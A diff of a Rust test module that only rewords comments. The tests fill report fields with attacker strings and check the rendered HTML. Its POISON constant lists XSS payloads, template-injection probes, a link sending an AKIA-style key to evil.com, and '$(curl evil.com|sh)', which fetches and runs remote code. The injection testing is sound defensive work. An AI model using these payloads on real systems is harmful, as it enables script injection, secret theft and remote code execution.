@@ -1,5 +1,5 @@
-//! Every string of a report may be the attacker's: attacks.md rows A4, A5, A6, A15, A21, A22. A real parser of HTML is
-//! the judge of what a page holds: the same elements and attributes as with harmless text, and no link but our own.
+//! Tests with attacker-controlled strings in every field of a report (attacks.md rows A4, A5, A6, A15, A21, A22). A
+//! real HTML parser must find the same elements and attributes as with harmless text, and no link but our own.
 
 mod judge;
 
@@ -14,7 +14,7 @@ use serde_json::Value;
 use self::judge::{Found, check};
 use crate::testing::{Store, failed, get, inconclusive, now, report, view};
 
-/// Fields that are words, numbers or times of ours, or the catalogue's commands.
+/// Fields with our own words, numbers or times, or with commands of the catalogue.
 const OURS: [&str; 30] = [
     "class",
     "logs",
@@ -48,7 +48,7 @@ const OURS: [&str; 30] = [
     "stopped_by",
 ];
 
-/// Puts these strings, one after the other, into every field that is not ours.
+/// Replaces every field that is not ours by one of these strings in turn.
 fn replace(value: &mut Value, strings: &mut impl Iterator<Item = String>) {
     match value {
         Value::String(text) => *text = strings.next().unwrap_or_default(),
@@ -71,12 +71,12 @@ fn replace(value: &mut Value, strings: &mut impl Iterator<Item = String>) {
     }
 }
 
-/// The case with these strings everywhere.
+/// Returns the case with these strings in every field.
 fn poisoned(report: &Report, strings: &[String]) -> CaseView {
     let mut strings = strings.iter().cycle().cloned();
     let mut value = serde_json::to_value(report).unwrap();
     replace(&mut value, &mut strings);
-    // Which cases are linked depends on their ids, not on text.
+    // The linked cases depend on their ids, not on text.
     value["reach"]["other_cases"] = serde_json::json!(["aaaa-bbbb-cccc"]);
     let mut next = || strings.next().unwrap();
     let mut view = view(Some(serde_json::from_value(value).unwrap()));
@@ -96,7 +96,7 @@ fn poisoned(report: &Report, strings: &[String]) -> CaseView {
     view
 }
 
-/// Every act that people do, in these words.
+/// Returns every action that people can take, with these strings.
 fn people(next: &mut impl FnMut() -> String) -> Desk {
     let kinds = [
         ActKind::Agreed,
@@ -127,7 +127,7 @@ fn block_on<T>(future: impl Future<Output = T>) -> T {
         .block_on(future)
 }
 
-/// The list and the case with these strings everywhere, checked.
+/// Renders and checks the list and the case with these strings.
 fn pages(report: &Report, strings: &[String]) -> [Found; 2] {
     let view = poisoned(report, strings);
     let mut store = Store::of(vec![view]);
@@ -144,7 +144,7 @@ fn pages(report: &Report, strings: &[String]) -> [Found; 2] {
     })
 }
 
-/// What attackers write into names, user agents and descriptions.
+/// Typical attacks in names, user agents and descriptions.
 const POISON: &str = "\"'><img src=x onerror=alert(1)><script>alert(1)</script><a href=https://evil.com>x</a> {{ 1234*1001 }} \
      {% include 'x' %} <!channel> <@U1> @everyone [~admin] [c](https://evil.com/?d=AKIA) javascript:alert(1) \u{1b}[2J\u{202e}\
      txt\u{200b}\u{e0041} </code></pre></title></textarea> &lt;b&gt; www.evil.com [SAMPLE]\r\n\n$(curl evil.com|sh) <!-- ";
@@ -301,7 +301,7 @@ fn fragment() -> impl Strategy<Value = String> {
 }
 
 fn strings() -> impl Strategy<Value = Vec<String>> {
-    // A letter in front: a text of which nothing is left is left out, and its element with it.
+    // A letter comes first, because a text that is empty after cleaning is omitted together with its element.
     let one =
         prop::collection::vec(fragment(), 0..8).prop_map(|parts| format!("x{}", parts.concat()));
     prop::collection::vec(one, 1..24)
